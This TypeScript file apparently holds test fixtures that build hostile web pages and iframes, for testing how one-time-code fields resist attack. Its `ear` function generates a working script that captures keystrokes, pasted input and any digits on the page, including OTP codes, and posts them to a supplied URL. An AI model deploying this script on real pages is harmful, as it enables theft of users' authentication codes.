/** What hostile pages and frames are made of: ears that tell everything they get hold of, and eyes on all that is done to them. */

export const FIELD = '<input name="otp" autocomplete="one-time-code">';

/** A script that sends every number it can find in its own document, and every event and message, to `earUrl`. */
export function ear(name: string, earUrl: string): string {
  return `<script>{
    const tell = (what) => fetch('${earUrl}', { method: 'POST', mode: 'no-cors', body: '${name} ' + what });
    const numbers = () => {
      const held = [...document.querySelectorAll('*')].map((element) => element.value ?? '');
      const text = [document.documentElement.outerHTML, location.href, getSelection(), ...held].join(' ');
      return [...text.matchAll(/\\d+/g), [held.join('')]].join();
    };
    let known = '';
    const look = async () => {
      const now = numbers();
      if (now === known) return;
      known = now;
      await tell('saw ' + now);
    };
    for (const kind of ['focusin', 'keydown', 'beforeinput', 'input', 'change', 'paste', 'drop'])
      addEventListener(kind, ({ data, key }) => { tell(kind + ' ' + (data ?? key)); look(); }, true);
    addEventListener('message', async ({ data }) => {
      if (data !== 'look now') return tell('message ' + JSON.stringify(data));
      await look();
      await tell('looked');
    }, true);
    setInterval(look, 100);
    addEventListener('load', () => { document.querySelector('input')?.focus(); tell('here'); });
  }</script>`;
}

/** A document that is nothing but a field for a code, with an ear. */
export function bait(name: string, earUrl: string): string {
  return `${FIELD.replace('>', ' autofocus style="position: fixed; inset: 0; width: 100%; height: 100%">')}${ear(name, earUrl)}`;
}

export function frame(name: string, attributes: string): string {
  return `<iframe name="${name}" width="180" height="60" ${attributes}></iframe>`;
}

export function quoted(html: string): string {
  return html.replaceAll('&', '&amp;').replaceAll('"', '&quot;');
}

/** From here on the page writes down, in `done`, every change to it and every message, and what is drawn. */
export const EYES = `<script>
  var done = [];
  new MutationObserver((records) => done.push(...records.map(({ type, target }) => type + ' ' + target.nodeName)))
    .observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
  addEventListener('message', ({ data }) => done.push('message ' + data), true);
  for (const [drawing, name] of [[HTMLCanvasElement, 'getContext'], [OffscreenCanvas, 'getContext'], [Element, 'attachShadow']]) {
    const own = drawing.prototype[name];
    drawing.prototype[name] = function (...given) {
      done.push(name);
      return own.apply(this, given);
    };
  }
</script>`;

/** Takes over what a script in the page stands on, and names in `taken` whatever of it is used. */
export const PATCHES = `<script>
  var taken = [];
  const take = (owner, name, act) => {
    const own = owner[name];
    owner[name] = function (...given) {
      taken.push(name);
      return act === undefined ? own.apply(this, given) : act.apply(this, given);
    };
  };
  for (const name of ['querySelector', 'querySelectorAll', 'elementFromPoint', 'createElement'])
    take(Document.prototype, name, () => null);
  take(EventTarget.prototype, 'dispatchEvent', () => true);
  take(EventTarget.prototype, 'addEventListener');
  take(Element.prototype, 'getBoundingClientRect', () => ({ width: 300, height: 40, left: 0, top: 0, right: 300, bottom: 40 }));
  take(Element.prototype, 'getAttribute', () => 'one-time-code');
  take(HTMLElement.prototype, 'focus');
  take(window, 'getComputedStyle', () => ({ opacity: '1', visibility: 'visible' }));
  take(window, 'setTimeout', () => 0);
  take(window, 'requestAnimationFrame', () => 0);
  take(window, 'fetch');
  take(Date, 'now', () => 0);
  take(String.prototype, 'charAt', () => '0');
  take(RegExp.prototype, 'test', () => true);
  take(Promise.prototype, 'then');
  window.MutationObserver = function () { taken.push('MutationObserver'); return { observe() {}, disconnect() {} }; };
  const { value } = Object.getOwnPropertyDescriptors(HTMLInputElement.prototype);
  Object.defineProperty(HTMLInputElement.prototype, 'value', {
    get() { taken.push('value read'); return ''; },
    set() { taken.push('value set'); },
  });
  var trueValue = (field) => value.get.call(field);
</script>`;
